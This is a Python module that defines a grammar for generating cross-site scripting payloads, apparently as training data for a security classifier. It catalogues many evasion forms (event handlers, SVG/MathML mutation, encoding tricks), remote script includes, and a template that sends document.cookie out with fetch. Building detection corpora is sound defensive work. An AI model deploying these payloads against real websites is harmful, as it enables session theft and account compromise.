"""Cross-site scripting as HTML: tags with handlers, scripts, SVG, MathML, mutation."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.xss_base import POSTS, XSS
from securitai.train.corpora.kinds import COOKIE, FILENAME, HEADER, NAME, PATH, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
src = src=x¦src=1¦src¦src=""¦src='x'¦src=#¦src=.¦src=/¦src=a¦src=xx:x¦src=//x¦href¦srcset=x¦src="x:x"¦src=data:,¦src=0¦src=~
trigger = autofocus¦tabindex=1¦contenteditable¦draggable="true"¦open¦autoplay¦controls¦loop¦hidden=until-found¦id=x¦style="animation-name:x"¦style=transition:1s¦popover¦accesskey=x¦width=1000¦behavior=alternate¦style=display:block;font-size:50px¦onfocus
handler:
  8×‹gap›‹ev›‹eq›‹hq›‹call›‹hq›
  ‹gap›‹ev›‹eq›‹hq›‹ents›‹hq›
  ‹gap›‹ev›‹eq›"‹call›"
  ‹gap›‹ev›‹eq›'‹call›'
  ‹gap›‹ev›‹eq›‹call›
  ‹gap›‹trigger›‹gap›‹ev›‹eq›‹call›
  ‹gap›‹ev›‹eq›"‹call›"‹gap›‹trigger›
tagged:
  6×<img‹gap›‹src›‹gap›onerror‹eq›‹hq›‹call›‹hq›‹closing›
  5×<svg‹gap›onload‹eq›‹hq›‹call›‹hq›‹closing›
  10×<‹tag›‹handler›‹closing›
  4×<‹tag›‹gap›‹src›‹handler›‹closing›
  2×<‹tag›‹gap›‹trigger›‹handler›‹closing›
  <‹custom›‹handler›‹closing›
  <‹custom›‹gap›id=x‹gap›tabindex=1‹gap›onfocus=‹call›></‹custom›>
  <‹tag› id=x tabindex=1 ‹ev›=‹call›></‹tag›>
  <‹tag› ‹ev›="‹call›" contenteditable>‹az›</‹tag›>
  <‹tag› ‹ev›=‹call› tabindex=1 id=x></‹tag›><input autofocus>
  <‹tag› draggable="true" ‹ev›="‹call›">‹az›</‹tag›>
  <style>@keyframes ‹x=az›{}</style><‹tag› style="animation-name:‹$x›" ‹ev›="‹call›"></‹tag›>
  <style>:target {color:red;}</style><‹tag› id=x style="transition:color 1s" ontransitionend=‹call›></‹tag›>
  <body‹handler›‹closing›
  <input‹gap›autofocus‹gap›onfocus‹eq›‹hq›‹call›‹hq›‹closing›
  <details‹gap›open‹gap›ontoggle‹eq›‹hq›‹call›‹hq›‹closing›
  <video><source‹gap›onerror‹eq›‹hq›‹call›‹hq›‹closing›
  <‹video¦audio› ‹src›‹gap›onerror=‹call›‹closing›
  <video autoplay onloadstart=‹call›><source src=‹az›.mp4></video>
  <marquee‹gap›onstart‹eq›‹hq›‹call›‹hq›‹closing›
  <select autofocus‹gap›onfocus‹eq›‹call›‹closing›
  <button popovertarget=x>‹az›</button><xss onbeforetoggle=‹call› popover id=x>
  <‹tag›‹closing›
  <‹tag›/‹az›/‹handler›‹closing›
  <‹tag› "‹handler›‹closing›
  <‹tag› '>'‹handler›‹closing›
  <‹az›‹handler›
  ‹lsaquo›img/src=x onerror=‹call›///‹rsaquo›
  <%00‹tag›‹handler›‹closing›
  <‹tag›%00‹handler›‹closing›
  <image/src/onerror=‹call›>
  <image src=x:x‹gap›onerror=‹call›>
  <a‹gap›onmouseover=‹call›>‹word›</a>
  <!--><‹tag›‹handler›-->
  <? foo="><script>‹call›</script>">
  <!-- --!><img src=x onerror=‹call›>
  <‹tag› ‹az›="‹az›"‹handler›‹closing›
  <img‹gap›src="‹az›.jpg"‹gap›alt="‹az›"‹handler›‹closing›
  <img ‹dq3›><script>‹call›</script>">
  <img src=`x`‹gap›onerror=‹call›>
  <input type=image src=x onerror=‹call›>
  <object data=‹az› onerror=‹call›>
  <link rel=stylesheet href=x onerror=‹call›>
  <link rel="preload" href="/" as="script" onload="‹call›">
  <input type="hidden" oncontentvisibilityautostatechange="‹call›" style="content-visibility:auto">
  <input type=hidden accesskey=X onclick=‹call›>
  <img src onerror‹sp›‹sp›=‹sp›‹call›‹sp›>
  <x onclick=‹call› src=a>‹az›</x>
  <div onpointermove=‹call›>‹az›
tagged0:
  ‹start›‹tagged›‹tailx›
script:
  8×<script>‹call›</script>
  2×<script>‹call›;</script>
  <script>‹call›//
  <script>‹call›<!--
  <script>‹call›
  <script‹gap›src‹eq›‹hq›‹url›‹hq›></script>
  <script‹gap›src=//‹hostport›></script>
  <script src=//‹host›/‹path1›></script>
  <script src=data:text/javascript,‹call›></script>
  <script src="data:;base64,‹b64x›"></script>
  <script type="text/javascript">‹call›;</script>
  <script language="‹javascript¦vbs¦vbscript¦JScript.Encode›">‹call›</script>
  <script type=module>import'//‹host›/‹az›'</script>
  <script type="importmap">{"imports":{"‹az›":"data:text/javascript,‹call›"}}</script>
  <script‹gap›~~~>‹call›</script‹gap›~~~>
  <script‹gap›‹az›>‹call›</script‹gap›‹az›>
  <script/‹az›>‹call›</script>
  <script ?>‹call›
  <script%20type="text/javascript">‹call›;</script>
  <script>/*‹az›*/‹call›/*‹az›*/</script>
  <script>var ‹az›='‹az›';‹call›;</script>
  <scr<script>ipt>‹call›</scr</script>ipt>
  <scr\0ipt>‹call›</scr\0ipt>
  <<script>‹call›;//<</script>
  <script>‹fuck›</script>
  <script>window['‹escs›'](‹arg›)</script>
  <script x>‹call›</script y>
  <script>/&lt/alert(‹n›)/&lt/</script>
  <script ^__^>‹call›</script ^__^
  <script>prompt.call`${‹n›}`</script>
  <script crossorigin src=//‹host›></script>
  <script>({set/**/$($){_/**/setter=$,_=‹n›}}).$=alert</script>
  <script>$=‹n›,alert($)</script>
  </script><script>‹call›</script>
  <script>'‹az›';‹nl›‹call›‹nl›</script>
  ‹b64tag›
  <noscript><p title="</noscript><img src=x onerror=‹call›>">
  +ADw-script+AD4-alert(‹n›)+ADw-/script+AD4-
  %253Cscript%253E‹call›%253C%252Fscript%253E
  %uff1cscript%uff1e‹call›%uff1c/script%uff1e
  ¼script¾‹call›¼/script¾
  ＜script＞‹call›＜/script＞
  <ſcript>‹call›</script>
  <scrıpt>‹call›</scrıpt>
  <xss><script>‹call›</script></xss>
  <script>‹call›</script
  <script
  <script>
  <SCRIPT a=">" SRC="‹url›"></SCRIPT>
  <SCRIPT =">" '' SRC="‹url›"></SCRIPT>
  <script>document.currentScript.parentNode.innerHTML=‹arg›</script>
  <script>‹nl›  const ‹az› = document.cookie;‹nl›  fetch('‹url›?d=' + btoa(‹az›));‹nl›</script>
b64tag:
  <object data="data:text/html;base64,‹b64x›"></object>
  <embed src="data:image/svg+xml;base64,‹b64x›" type="image/svg+xml" AllowScriptAccess="always"></embed>
  <iframe src="data:text/html;base64,‹b64x›"></iframe>
  <a href="data:text/html;base64,‹b64x›">‹word›</a>
  <meta http-equiv="refresh" content="0;url=data:text/html;base64,‹b64x›">
script0:
  ‹start›‹script›‹tailx›
svgm:
  <svg><script>‹call›</script>
  <svg><script href="data:text/javascript,‹call›"/>
  <svg><script xlink:href=data:,‹call›></script>
  <svg><script>&#97;lert(‹n›)</script></svg>
  <svg><animate onbegin=‹call› attributeName=x dur=1s>
  <svg><animate‹gap›onend=‹call›‹gap›attributeName=x dur=1s>
  <svg><set‹gap›onbegin=‹call›‹gap›attributeName=x>
  <svg><a><animate attributeName=href values=javascript:‹call› /><text x=20 y=20>‹az›</text></a>
  <svg><a xlink:href="javascript:‹call›"><text x="20" y="20">‹az›</text></a></svg>
  <svg><use href="data:image/svg+xml;base64,‹b64x›#x"/></svg>
  <svg><use xlink:href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='‹call›'/></svg>#x">
  <svg><foreignObject><body onload=‹call›></foreignObject></svg>
  <svg xmlns="http://www.w3.org/2000/svg" onload="‹call›"/>
  <svg xmlns="http://www.w3.org/2000/svg"><script>‹call›</script></svg>
  <svg><style><img src=x onerror=‹call›></style>
  <svg/onload=‹call›//
  <svg id=x tabindex=1 onfocusin=‹call›>
  <svg><discard onbegin=‹call›>
  <svg><image href=x onerror=‹call›>
  <svg><title><![CDATA[</title><script>‹call›</script>]]></svg>
  <svg></p><style><a id="</style><img src=1 onerror=‹call›>">
  <svg onload%09=%20‹call›>
  <svg><circle r=9 onclick=‹call›>
  <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">‹call›</handler>
  <math><a xlink:href="javascript:‹call›">‹az›
  <math href="javascript:‹call›">‹az›</math>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=‹call›&gt;">
  <math><mi//xlink:href="data:x,<script>‹call›</script>">
  <math><maction actiontype="statusline#http://‹host›" xlink:href="javascript:‹call›">‹az›</maction></math>
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=‹call›>
  <math></p><style><!--</style><img src/onerror=‹call›>
  <listing>&lt;img src=1 onerror=‹call›&gt;</listing>
  <xmp><p title="</xmp><svg/onload=‹call›>
  <noembed><img title="</noembed><img src onerror=‹call›>"></noembed>
  <table><td background="javascript:‹call›">
  <select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=‹call›>
  <template shadowrootmode=open><img src=x onerror=‹call›></template>
  <p id="</p><img src=x onerror=‹call›>">
  <div title="<!--"><img src=x onerror=‹call›>
  <![CDATA[<]]>script<![CDATA[>]]>‹call›<![CDATA[<]]>/script<![CDATA[>]]>
  <x:script xmlns:x="http://www.w3.org/1999/xhtml">‹call›</x:script>
  <html xmlns:xss><?import namespace="xss" implementation="http://‹host›/‹az›.htc"><xss:xss>XSS</xss:xss></html>
  <!DOCTYPE x[<!ENTITY x SYSTEM "‹url›">]><y>&x;</y>
  <xml id=I><X><C><![CDATA[<img src="javas]]><![CDATA[cript:‹call›">]]></C></X></xml><span datasrc=#I datafld=C dataformatas=html></span>
  <?xml-stylesheet href="javascript:‹call›"?>
  <isindex type=image src=1 onerror=‹call›>
  <keygen autofocus onfocus=‹call›>
  <frameset onload=‹call›>
  <bgsound src="javascript:‹call›">
  <br size="&{‹call›}">
  <layer src="‹url›"></layer>
  <plaintext>
  <base href="//‹host›/">
  <base href="javascript:/a/../‹call›/*">
svg0:
  ‹start›‹svgm›‹tailx›
short:
  ">
  '>
  "><
  '><‹tag›>
  "><‹tag›>
  "><‹az›
  '"><‹az›
  </‹tag›>
  <‹az›>
  '"<>
  "'><‹az4›
  <‹az4›'"‹n›>
  ';!--"<‹az4›>=&{()}
  "><h1>‹word›</h1>
  "><u>‹az›
  <b>‹az›</b>"
  <plaintext/>
  "><marquee>‹az›</marquee>
  &lt;script&gt;‹call›&lt;/script&gt;
  &#60;script&#62;
  \x3cscript\x3e
  \u003cscript\u003e
  %3Cscript%3E
  ‹pre›"><‹tag›
  ‹pre›'"()&%<acx><ScRiPt >‹call›</ScRiPt>
  ‹rnd›'"><‹rnd›
  <‹tag›/‹ev›=‹call›
  ‹rnd›<script>‹call›</script>‹rnd›
  ‹rnd›"onmouseover=‹call›‹sp›bad="
  <ScRiPt>‹call›</sCrIpT>‹word›
""",
    XSS,
)
_ALL = (VALUE, NAME, COOKIE, HEADER, PATH)
KINDS = (
    AttackKind("xss.tag", Category.XSS, _G.maker("tagged0", *POSTS), 8.0, (*_ALL, FILENAME)),
    AttackKind("xss.script", Category.XSS, _G.maker("script0", *POSTS), 6.0, _ALL),
    AttackKind("xss.svg", Category.XSS, _G.maker("svg0", *POSTS), 4.0, _ALL),
    AttackKind("xss.short", Category.XSS, _G.maker("short", *POSTS), 1.0, (VALUE, NAME)),
)
